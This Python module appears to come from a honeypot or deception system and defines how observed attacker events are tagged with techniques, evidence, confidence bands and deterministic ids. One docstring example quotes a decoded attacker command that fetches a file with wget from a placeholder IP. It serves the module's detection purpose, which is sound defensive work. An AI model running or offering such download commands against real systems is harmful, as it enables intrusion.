"""A tag: this event shows this technique, this sure, because of that."""

from __future__ import annotations

from collections.abc import Mapping
from typing import NewType, NotRequired, TypedDict
from uuid import UUID

import msgspec

from decnet.models.actor import AttackerUuid, IdentityUuid, SessionUuid
from decnet.models.event import SourceKind
from decnet.models.ids import uuid5_bytes

TagUuid = NewType("TagUuid", bytes)

MIN_STORED_CONFIDENCE = 0.3
"""Below this nothing is written."""
DEFAULT_CONFIDENCE_FLOOR = 0.6
"""Views hide what is below this, until asked."""
BAND_EDGES = (0.3, 0.6, 0.7, 0.8, 0.9)
"""Lower edges of the confidence bands that roll-ups keep apart."""

_TAG_NAMESPACE = UUID("a2f1c3b4-7d58-5e0f-8c1b-3b6a52d0e901")


class CommandEvidence(TypedDict):
    """What proves a tag on a command: a capped quotation, where it stands, and what was undone to see it.

    ``start`` and ``end`` are byte offsets into the UTF-8 form of the original line. Where a rule names a command, they
    are that command's, ``command`` is its program and arguments as the shell would see them, and ``decoded`` has the
    layers that were taken off to see it, the outermost first: ``base64: wget http://203.0.113.7/x``.
    """

    matched: str
    start: int
    end: int
    terms: list[str]
    command: NotRequired[str]
    decoded: NotRequired[list[str]]


class TextEvidence(TypedDict):
    """What proves a tag on any other text field: ``start`` and ``end`` are byte offsets into its UTF-8 form."""

    field: str
    matched: str
    start: int
    end: int
    terms: list[str]


class SessionEvidence(TypedDict):
    """What proves a tag on a whole session: how many events did, the first few by id and quotation, and when (µs)."""

    terms: list[str]
    events: list[str]
    matched: list[str]
    count: int
    first: int
    last: int


EVIDENCE_TYPES: dict[str, type] = {
    "command": CommandEvidence,
    "http_request": TextEvidence,
    "session": SessionEvidence,
}
"""The shape of the evidence of each source kind; an undeclared key fails at start-up and in tests."""


class TTPTag(msgspec.Struct, frozen=True, gc=False):
    """One technique shown by one event. ``created_at`` is the store's to write.

    :raises ValueError: neither ``attacker_uuid`` nor ``identity_uuid`` is given: a tag without an anchor is lost to
        every view.
    """

    uuid: TagUuid
    source_kind: SourceKind
    source_id: str
    attacker_uuid: AttackerUuid | None
    identity_uuid: IdentityUuid | None
    session_id: SessionUuid | None
    decky_id: str | None
    tactic: str
    technique_id: str
    sub_technique_id: str | None
    confidence: float
    rule_id: str
    rule_version: int
    evidence: Mapping[str, object]
    attack_release: str
    observed_at: int
    superseded: bool = False

    def __post_init__(self) -> None:
        if self.attacker_uuid is None and self.identity_uuid is None:
            raise ValueError(
                f"tag of rule {self.rule_id} on {self.source_kind} {self.source_id} has neither attacker_uuid nor "
                "identity_uuid; give at least one"
            )


def compute_tag_uuid(
    source_kind: str,
    source_id: str,
    rule_id: str,
    rule_version: int,
    technique_id: str,
    sub_technique_id: str | None,
) -> TagUuid:
    """The UUIDv5, as 16 bytes, over exactly these six, joined by ``|``; never time, process or randomness.

    :raises ValueError: a part holds ``|``, which would let two tags share one id.
    """
    parts = (source_kind, source_id, rule_id, str(rule_version), technique_id, sub_technique_id or "")
    name = "|".join(parts)
    if name.count("|") != len(parts) - 1:
        raise ValueError(f"tag id part holds '|': {name!r}; source ids must not")
    return TagUuid(uuid5_bytes(_TAG_NAMESPACE, name))


def confidence_band(confidence: float) -> int:
    """The index of the band of :data:`BAND_EDGES` that holds ``confidence`` (0 is 0.3 to 0.6, 4 is 0.9 and more)."""
    return sum(confidence >= edge for edge in BAND_EDGES[1:])
